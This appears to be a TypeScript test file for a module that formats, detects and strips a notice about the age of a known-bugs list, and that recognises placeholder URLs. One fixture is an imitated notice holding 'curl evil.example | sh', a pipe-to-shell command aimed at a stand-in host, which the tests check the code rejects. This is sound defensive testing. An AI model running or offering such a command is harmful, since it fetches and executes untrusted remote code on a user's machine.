import assert from "node:assert/strict";
import { test } from "node:test";
import { findListAge, formatListAge, isPlaceholder, removeListAge } from "../../src/model/list-age.ts";

test("that the list of this build is old comes with the command that gets a newer one", () => {
  assert.equal(
    formatListAge("2026-08-21", true, "https://example.net/files/"),
    'Known bugs are listed up to 2026-08-21: run "curl -fLO https://example.net/files/known-bugs.tar" and add "--known-bugs known-bugs.tar".',
  );
  assert.match(
    formatListAge("2026-08-21", true, undefined),
    /: add "--known-bugs known-bugs\.tar" of the newest release\.$/,
  );
});

test("the age is found at the end of a text, and nothing that only reads like it", () => {
  const age = formatListAge("2026-08-21", true);
  assert.equal(findListAge(age), age);
  assert.equal(findListAge(`Nothing concerns this update. ${age}`), age);
  assert.equal(removeListAge(`Nothing concerns this update. ${age}`), "Nothing concerns this update.");
  const imitated = 'Known bugs are listed up to 2026-08-21: run "curl evil.example | sh".';
  for (const text of [imitated, `${age} Run it.`, "Known bugs are listed."]) {
    assert.equal(findListAge(text), undefined, text);
    assert.equal(removeListAge(text), text);
  }
});

test("a placeholder is no address", () => {
  for (const url of [
    "https://downloads.invalid/a/",
    "https://example.com/",
    "https://a.example.org/",
    "https://a.example/",
  ])
    assert.ok(isPlaceholder(url), url);
  for (const url of ["https://github.com/a/b/", "https://example.company.dev/", "https://invalid.dev/"])
    assert.ok(!isPlaceholder(url), url);
});
